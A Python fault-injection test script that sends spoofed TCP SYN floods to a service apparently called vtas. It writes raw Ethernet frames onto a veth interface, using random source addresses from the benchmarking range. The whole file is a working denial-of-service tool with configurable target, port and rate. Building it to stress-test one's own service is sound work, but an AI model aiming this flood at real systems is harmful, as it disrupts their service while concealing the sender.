#!/usr/bin/python3
"""SYN flood for tests/fault: writes spoofed SYN frames straight to a veth with a raw
AF_PACKET socket (no scapy: prebuilt bytes, tens of thousands per second from Python).

  syn_flood.py --iface IF --dst-mac MAC --dst-ip IP --dst-port P --count N [--pps R] [--seed S]
               [--sources CIDR]

Sources are random addresses in CIDR (default 198.18.0.0/15, the benchmarking range, so no
real host answers vtas's SYN-ACKs) with random ports and ISNs; the destination MAC is vtas's.
Prints "flood sent=<n> seconds=<s> pps=<r>" at the end.
"""
import argparse
import ipaddress
import random
import socket
import struct
import sys
import time


def checksum(data):
    if len(data) % 2:
        data += b"\x00"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff


def syn_frame(src_mac, dst_mac, src_ip, dst_ip, sport, dport, seq):
    # TCP header with an MSS option, like a real SYN.
    options = struct.pack("!BBH", 2, 4, 1460)
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, (5 + len(options) // 4) << 4, 0x02, 64240, 0, 0) + options
    pseudo = src_ip + dst_ip + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), random.getrandbits(16), 0x4000, 64, 6, 0,
                     src_ip, dst_ip)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return dst_mac + src_mac + b"\x08\x00" + ip + tcp


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--iface", required=True)
    ap.add_argument("--dst-mac", required=True)
    ap.add_argument("--dst-ip", required=True)
    ap.add_argument("--dst-port", type=int, required=True)
    ap.add_argument("--count", type=int, required=True)
    ap.add_argument("--pps", type=int, default=0, help="0: as fast as possible")
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--sources", default="198.18.0.0/15")
    a = ap.parse_args()
    random.seed(a.seed)
    net = ipaddress.ip_network(a.sources)
    src_mac = bytes.fromhex(open(f"/sys/class/net/{a.iface}/address").read().strip().replace(":", ""))
    dst_mac = bytes.fromhex(a.dst_mac.replace(":", ""))
    dst_ip = socket.inet_aton(a.dst_ip)
    frames = []
    for _ in range(min(a.count, 65536)):
        src = (net.network_address + random.randrange(1, net.num_addresses - 1)).packed
        frames.append(syn_frame(src_mac, dst_mac, src, dst_ip, random.randrange(1024, 65535), a.dst_port,
                                random.getrandbits(32)))
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((a.iface, 0))
    start = time.time()
    sent = 0
    batch = 64
    while sent < a.count:
        for i in range(min(batch, a.count - sent)):
            try:
                s.send(frames[(sent + i) % len(frames)])
            except BlockingIOError:
                pass
        sent += min(batch, a.count - sent)
        if a.pps:
            ahead = sent / a.pps - (time.time() - start)
            if ahead > 0:
                time.sleep(ahead)
    elapsed = time.time() - start
    print(f"flood sent={sent} seconds={elapsed:.3f} pps={sent / max(elapsed, 1e-9):.0f}", flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
